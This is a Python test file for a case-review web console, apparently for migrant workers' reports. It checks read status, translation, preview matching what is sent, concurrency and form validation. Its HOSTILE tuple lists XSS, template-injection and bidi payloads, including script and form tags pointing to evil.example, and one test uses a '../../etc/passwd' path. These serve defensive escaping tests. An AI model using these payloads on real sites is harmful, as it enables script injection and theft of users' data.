"""The page of a case: what is shown of what was said, what is sent is what was previewed, and no text breaks out."""

import html
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from storage.cases import Cases
from storage.messages import Messages
from tests.console.conftest import SAME_SITE, SENTENCE, words_of

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "</textarea></details></main><script src=//evil.example></script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "<!-- --> <![CDATA[ ]]>",
    "&lt;script&gt; &amp;amp; &#x3c;b&#x3e;",
    "\u202eevil\u2066 right to left",
    "%(num)d %s {0} {ref}",
    "<a href='data:text/html,x'>x</a><form action=//evil.example><input name=seen>",
)


def shown(page, name):
    """The texts of the bubbles in the preview, or in the view of a step."""
    part = page.text.split(name, 1)[1]
    end = part.find("</form>")
    bubbles = re.findall(r'<p class="mini-bubble"[^>]*>(.*?)</p>', part[: end if end > 0 else None], re.DOTALL)
    return [html.unescape(bubble) for bubble in bubbles]


def reply(kit, case_id, text, **more):
    return kit.post(f"/desk/cases/{case_id}/reply", {"seen": kit.seen(case_id), "text": text, **more})


def move(kit, case_id, to, **more):
    return kit.post(f"/desk/cases/{case_id}/move", {"seen": kit.seen(case_id), "to": to, **more})


def said(kit, case_id, *messages):
    """More of the conversation: (author, part, body) each."""
    conversation_id, at = kit.row(case_id).conversation_id, 1_795_000_000_000

    def work(unit):
        kept = Messages(unit.cases, unit.vault.key(conversation_id))
        for seq, (author, part, body) in enumerate(messages, 100):
            kept.add(
                kit.id(), conversation_id, seq=seq, author=author, part=part, body={"at": at, "text": "", **body}, day=1
            )

    kit.write(work)


def test_opening_a_case_marks_it_read_and_says_who_looked(kit):
    case_id = kit.case()
    kit.sign_in()
    kit.get(f"/desk/cases/{case_id}")
    assert not kit.row(case_id).unread
    text = words_of(kit.get(f"/desk/cases/{case_id}"))
    assert "Read for the first time Member" in text


def test_a_page_that_refreshes_itself_is_nobody_looking(kit):
    case_id = kit.case()
    kit.sign_in()
    kit.get(f"/desk/cases/{case_id}", headers={"HX-Request": "true"})
    assert kit.row(case_id).unread


def test_the_page_says_what_is_next_and_by_when(kit):
    case_id = kit.case()
    kit.sign_in()
    text = words_of(kit.get(f"/desk/cases/{case_id}"))
    assert "Next: Read the report, then start the review." in text
    assert "by Thu, Nov 26 On time: in 3 days" in text


def test_her_words_are_marked_with_their_language_and_not_guessed_at(kit):
    case_id = kit.case()
    kit.sign_in()
    page = kit.get(f"/desk/cases/{case_id}")
    assert re.search(rf'<div class="original" lang="id" dir="ltr">\s*<p dir="auto">{SENTENCE}', page.text)
    assert "No machine translation for Indonesian yet: ask a person" in words_of(page)


def test_a_report_in_the_readers_language_needs_no_second_column(kit):
    case_id = kit.case(text="my boss keeps my passport", language="en")
    kit.sign_in()
    page = kit.get(f"/desk/cases/{case_id}")
    assert "one-tongue" in page.text
    assert "No machine translation" not in page.text


def test_what_the_bot_said_and_what_she_chose_is_shown_in_the_readers_language(kit):
    wording, case_id = kit.console.intake.wording, kit.case()
    asked = {"text": wording.text("danger.ask", "id"), "language": "id"}
    asked["choices"] = [
        [f"danger.ask:{value}", wording.text(f"danger.ask.{value}", "id"), None] for value in ("yes", "no", "unsure")
    ]
    said(kit, case_id, ("bot", "", asked), ("worker", "answer", {"text": "၂"}), ("worker", "chat", {"text": "12.500"}))
    kit.sign_in()
    page = kit.get(f"/desk/cases/{case_id}")
    assert wording.text("danger.ask", "id") in html.unescape(page.text)
    means = [html.unescape(one) for one in re.findall(r'<div class="means">\s*<p>(.*?)</p>', page.text)]
    assert means == [wording.text("danger.ask", "en"), wording.text("danger.ask.no", "en")]
    japanese = kit.get(f"/desk/cases/{case_id}?language=ja")
    assert "危険" in japanese.text or wording.text("danger.ask", "ja") in japanese.text


def test_routine_questions_are_folded_and_her_words_never(kit):
    wording, case_id = kit.console.intake.wording, kit.case()
    bot = {"text": wording.text("where.company", "id"), "language": "id"}
    question = {"text": wording.text("update.question", "id", ref="1234-5678", question="Kapan?"), "language": "id"}
    said(
        kit,
        case_id,
        *[("bot", "", bot), ("worker", "answer", {"text": "Sakura"})] * 3,
        ("worker", "added", {"text": "Tambahan penting"}),
        ("bot", "", question),
        ("worker", "answer", {"text": "Bulan April"}),
    )
    kit.sign_in()
    page = kit.get(f"/desk/cases/{case_id}").text
    folds = re.findall(r'<details class="fold">.*?</details>', page, re.DOTALL)
    assert len(folds) == 1
    assert folds[0].count("Sakura") == 3
    open_part = page.replace(folds[0], "")
    for words in (SENTENCE, "Tambahan penting", "Bulan April", "Kapan?"):
        assert words in open_part


@pytest.mark.parametrize(
    ("part", "body", "words"),
    [
        ("secret", {}, "not kept"),
        ("chat", {"withdrawn": True}, "took this message back"),
        ("evidence", {"attachments": [["image", "ref", "image/jpeg"]]}, "Photo"),
        ("chat", {"location": [35.0, 139.0, None]}, "A place on the map"),
    ],
)
def test_what_has_no_text_is_said_in_words(kit, part, body, words):
    case_id = kit.case()
    said(kit, case_id, ("worker", part, body))
    kit.sign_in()
    assert words in words_of(kit.get(f"/desk/cases/{case_id}"))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_of_a_worker_stay_words(kit, text):
    case_id = kit.case(text=text, report={"where.company": text, "unknown.step": text})
    kit.sign_in()
    page = kit.get(f"/desk/cases/{case_id}")
    assert page.status_code == 200
    assert text in html.unescape(page.text)
    assert text not in page.text or not set(text) & set("<>\"'&")
    assert len(re.findall(r"<script\b", page.text)) == 3, "our own"
    assert not re.search(r"<[^>]+\son(?:error|load)\s*=", page.text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_of_a_member_stay_words(kit, text):
    case_id = kit.case(status="in_review")
    kit.sign_in()
    preview = kit.post(f"/desk/cases/{case_id}/preview", {"text": text})
    assert len(re.findall(r"<script\b", preview.text)) == 3
    assert move(kit, case_id, "out_of_scope", told=text, reason=text).status_code == 303
    page = kit.get(f"/desk/cases/{case_id}")
    assert text.replace("\u202e", "").replace("\u2066", "") in html.unescape(page.text)
    assert len(re.findall(r"<script\b", page.text)) == 3, "our own"


def test_what_is_previewed_is_what_is_sent(kit):
    case_id = kit.case(status="in_review")
    kit.sign_in()
    question = "Di mana paspor Anda sekarang?"
    preview = shown(kit.post(f"/desk/cases/{case_id}/preview", {"text": question}), 'id="preview"')
    assert kit.said_to_worker(case_id) == []
    assert kit.row(case_id).status == "in_review"
    assert reply(kit, case_id, question).status_code == 303
    assert kit.said_to_worker(case_id) == preview[:1]
    kit.hear(case_id, "1")
    assert kit.said_to_worker(case_id) == preview
    assert question in preview[1]


def test_who_chose_to_be_told_in_full_is_shown_no_announcement_and_gets_none(kit):
    case_id = kit.case(status="in_review", discreet=False)
    kit.sign_in()
    preview = shown(kit.post(f"/desk/cases/{case_id}/preview", {"text": "Kapan?"}), 'id="preview"')
    assert len(preview) == 1
    reply(kit, case_id, "Kapan?")
    assert kit.said_to_worker(case_id) == preview


@pytest.mark.parametrize(
    ("was", "to", "form"),
    [
        ("received", "in_review", {}),
        ("in_review", "with_companies", {}),
        ("closed", "in_review", {}),
        ("in_review", "out_of_scope", {"told": "…", "referral": "…"}),
    ],
)
def test_the_view_of_a_step_is_what_she_is_told(kit, was, to, form):
    case_id = kit.case(status=was, discreet=False)
    kit.assess(case_id)
    kit.sign_in()
    view = shown(kit.get(f"/desk/cases/{case_id}"), f'name="to" value="{to}"')
    assert move(kit, case_id, to, **form).status_code == 303
    assert kit.said_to_worker(case_id) == view
    assert len(view) == 1


def test_no_member_can_close_a_case_that_companies_work_on(kit):
    case_id = kit.case(status="with_companies", discreet=False)
    kit.sign_in()
    assert 'value="closed"' not in kit.get(f"/desk/cases/{case_id}").text
    assert move(kit, case_id, "closed").status_code == 409
    assert kit.row(case_id).status == "with_companies"
    assert kit.said_to_worker(case_id) == []


def test_her_answer_brings_the_case_back_unread(kit):
    case_id = kit.case(status="in_review")
    kit.sign_in()
    reply(kit, case_id, "Di mana?")
    kit.get(f"/desk/cases/{case_id}")
    kit.hear(case_id, "1")
    kit.hear(case_id, "Di lemari besi kantor")
    assert kit.row(case_id).status == "in_review"
    assert kit.row(case_id).unread
    assert "Di lemari besi kantor" in kit.get(f"/desk/cases/{case_id}").text


def test_of_two_members_on_one_page_the_second_is_told_and_nothing_is_sent_twice(kit):
    case_id = kit.case()
    kit.sign_in()
    seen = kit.seen(case_id)
    assert kit.post(f"/desk/cases/{case_id}/move", {"seen": seen, "to": "in_review"}).status_code == 303
    told = kit.said_to_worker(case_id)
    late = kit.post(f"/desk/cases/{case_id}/move", {"seen": seen, "to": "in_review"})
    assert late.status_code == 409
    assert "Somebody was faster" in late.text
    assert re.search(r'href="/desk/cases/[\w-]+" role="button"', late.text)
    late = kit.post(f"/desk/cases/{case_id}/reply", {"seen": seen, "text": "Where is it now?"})
    assert late.status_code == 409
    assert "Somebody was faster" in late.text
    assert "Where is it now?</textarea>" in late.text
    assert kit.seen(case_id) in late.text
    assert kit.said_to_worker(case_id) == told


@pytest.mark.parametrize(
    ("path", "form", "status"),
    [
        ("move", {"to": "closed", "outcome": "remedied"}, 409),
        ("move", {"to": "needs_info"}, 409),
        ("move", {"to": "nonsense"}, 409),
        ("move", {"to": "x" * 50}, 422),
        ("move", {}, 422),
        ("move", {"to": "in_review", "seen": "received.-1"}, 422),
        ("move", {"to": "in_review", "seen": "received.²"}, 422),
        ("move", {"to": "in_review", "seen": "received." + "9" * 30}, 409),
        ("move", {"to": "in_review", "seen": "nonsense.0"}, 409),
        ("reply", {"text": "   "}, 422),
        ("reply", {"text": "x" * 1001}, 422),
        ("reply", {"text": "x" * 5000}, 422),
        ("reply", {"text": "Q?", "kind": "shout"}, 422),
    ],
)
def test_a_form_that_cannot_be_done_is_a_page_with_the_reason(kit, path, form, status):
    case_id = kit.case()
    kit.sign_in()
    answer = kit.post(f"/desk/cases/{case_id}/{path}", {"seen": kit.seen(case_id), **form})
    assert answer.status_code == status
    assert "<h1" in answer.text
    assert kit.row(case_id).status == "received"
    assert kit.said_to_worker(case_id) == []


@pytest.mark.parametrize("case_id", ["nothing", "0" * 31, "../../etc/passwd", "0" * 32, "%00"])
def test_an_address_that_is_no_case_is_not_there(kit, case_id):
    kit.sign_in()
    assert kit.get(f"/desk/cases/{case_id}").status_code == 404


def test_an_erased_report_says_so_and_stops_asking_for_attention(kit):
    case_id = kit.case()
    conversation_id = kit.row(case_id).conversation_id
    kit.write(lambda unit: (unit.vault.destroy_key(conversation_id, 1), Cases(unit.cases).erased(case_id, at=1)))
    kit.sign_in()
    answer = kit.get(f"/desk/cases/{case_id}")
    assert answer.status_code == 410
    assert "This report was erased" in answer.text
    assert not kit.row(case_id).unread


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"stopped": "blocked"}, "She blocked us"),
        ({"stopped": "unreachable"}, "does not answer any more. What we write is kept"),
        ({"hidden": True}, "She sent HIDE"),
        ({"window_wait": "told"}, "WhatsApp has told her that there is a message"),
        ({"window_wait": "mute"}, "no WhatsApp template is approved"),
    ],
)
def test_whoever_cannot_be_reached_now_is_shown_as_such(kit, changes, words):
    case_id = kit.case(**changes)
    kit.sign_in()
    assert words in words_of(kit.get(f"/desk/cases/{case_id}"))


def test_late_is_said_in_words(kit):
    case_id = kit.case()
    kit.clock.pass_(days=5)
    kit.sign_in()
    assert "Late: 2 days" in words_of(kit.get(f"/desk/cases/{case_id}"))


FIELDS = (
    "seen",
    "to",
    "text",
    "kind",
    "reason",
    "told",
    "referral",
    "outcome",
    "reference",
    "back",
    "login",
    "password",
)
ODD = st.one_of(
    st.text(max_size=60),
    st.sampled_from(["", "received.0", "in_review", "ask", "tell", "\x00", "\ud83d", "0" * 5000, *HOSTILE]),
)
FORMS = st.dictionaries(st.sampled_from((*FIELDS, "", "\x00", "a[b]")), ODD, max_size=6)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_whatever_a_form_holds_the_answer_is_a_page_and_never_a_fault(kit, data):
    case_id = kit.case()
    kit.sign_in(login=f"m{kit.counter}@desk.example")
    path = data.draw(
        st.sampled_from(["move", "reply", "preview"]).map(lambda last: f"/desk/cases/{case_id}/{last}")
        | st.sampled_from(["/desk/find", "/desk/language", "/desk/shortcuts", "/desk/sign-in", "/desk/welcome/x"])
    )
    form = {name: value.encode("utf-8", "surrogatepass") for name, value in data.draw(FORMS).items()}
    answer = kit.ask("POST", path, data=form, headers=SAME_SITE)
    assert answer.status_code in (200, 303, 403, 404, 409, 410, 422, 429)
    assert answer.status_code == 303 or "<h1" in answer.text


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    body=st.binary(max_size=300),
    kind=st.sampled_from(
        [
            "application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded; charset=utf-16",
            "multipart/form-data",
            "multipart/form-data; boundary=x",
            "application/json",
            "text/plain; charset=nonsense",
            "",
        ]
    ),
    path=st.sampled_from(["/desk/find", "/desk/sign-in", "/desk/welcome/x", "/desk/language"]),
)
def test_whatever_bytes_a_body_holds_the_answer_is_a_page_and_never_a_fault(kit, body, kind, path):
    kit.sign_in(login=f"m{kit.counter}@desk.example")
    answer = kit.ask("POST", path, content=body, headers={**SAME_SITE, "content-type": kind})
    assert 303 <= answer.status_code < 500
    assert answer.status_code == 303 or "<h1" in answer.text


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(query=st.dictionaries(st.sampled_from(["list", "category", "in", "channel", "language"]), ODD, max_size=4))
def test_whatever_an_address_asks_for_the_answer_is_a_page(kit, query):
    kit.sign_in(login=f"m{kit.counter}@desk.example")
    params = {name: value.encode("utf-8", "surrogatepass") for name, value in query.items()}
    assert kit.get("/desk", params=params).status_code in (200, 404)
